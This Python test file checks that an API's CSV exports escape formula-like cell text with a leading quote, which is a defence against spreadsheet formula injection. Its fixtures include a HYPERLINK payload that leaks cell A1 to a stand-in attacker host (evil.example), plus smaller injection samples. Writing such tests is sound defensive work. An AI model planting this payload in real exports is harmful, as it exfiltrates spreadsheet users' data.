"""Every CSV we produce writes text that a spreadsheet would run as a formula as plain text."""

from datetime import date
from decimal import Decimal

from api.base.csv import csv_cell
from tests.factories import make_company, make_lease, make_park, make_report, make_unit

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'


def test_text_that_starts_like_a_formula_is_written_with_a_leading_quote():
    assert [
        csv_cell(text)
        for text in ("=1+1", "+84 28 3812 3456", "-5", "@SUM(A1)", "\tlate", "\rearly")
    ] == ["'=1+1", "'+84 28 3812 3456", "'-5", "'@SUM(A1)", "'\tlate", "'\rearly"]


def test_other_text_and_our_own_numbers_are_written_as_they_are():
    assert [
        csv_cell(value)
        for value in ("Công ty A", " =1", "a=b", "", None, True, -5, Decimal("-12.50"), -0.5)
    ] == ["Công ty A", " =1", "a=b", "", "", "true", "-5", "-12.50", "-0.5"]


def test_the_company_csv_export_writes_a_profiles_formulas_as_text(manager_client):
    company = make_company(
        legal_name=HYPERLINK, short_name="@cmd", address="-2+3", description="\t=1", headcount=5
    )
    response = manager_client.get("/api/v1/companies/", {"format": "csv"})
    assert response.status_code == 200
    lines = response.content.decode("utf-8-sig").split("\r\n")
    assert lines[1].startswith(
        f'{company.pk},"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",\'@cmd,'
        f"{company.tax_code},software,prospect,,,,'-2+3,,5,'\t=1,,,false,false,1,"
    )


def test_the_reports_summary_csv_writes_a_companys_formulas_as_text(manager_client):
    park = make_park()
    company = make_company(legal_name=HYPERLINK, short_name="+SUM(1)")
    make_lease(unit=make_unit(park=park), company=company, start_date=date(2024, 1, 1))
    make_report(
        company,
        period="Y",
        revenue_vnd=1_000_000,
        export_revenue_usd=0,
        headcount=3,
        it_headcount=2,
    )
    response = manager_client.get(
        "/api/v1/reports/summary/", {"park": park.pk, "year": 2024, "format": "csv"}
    )
    assert response.status_code == 200
    assert response.content.decode("utf-8-sig").split("\r\n")[1:] == [
        f'{company.pk},"\'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")",'
        f"'+SUM(1),{company.tax_code},software,Y,1000000,0,3,2",
        ",Total (1 of 1 companies reporting),,,,,1000000,0,3,2",
        "",
    ]
